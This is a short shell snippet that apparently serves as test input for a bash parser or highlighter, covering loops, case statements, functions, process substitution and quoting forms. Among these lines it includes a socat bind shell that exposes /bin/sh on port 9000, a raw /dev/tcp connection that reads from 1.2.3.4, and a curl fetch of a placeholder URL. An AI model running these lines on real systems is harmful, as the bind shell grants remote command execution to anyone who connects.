for f in a b; do if [ "$f" = a ]; then (cd /tmp && { exec 3<>/dev/tcp/1.2.3.4/80; cat <&3; }); fi; done
case "$X" in a|b) echo "${X:-def}" ;; *) echo `hostname` ;; esac
f() { socat TCP-LISTEN:9000,fork EXEC:/bin/sh; }; f &
cat <(curl http://x/y) >(tee log) <<< "here $(whoami)" 2>&1 >>/dev/null
echo $'esc\x41' "a\"b" 'c''d' $((1+2)) [[ -n $A ]] && (( B++ ))
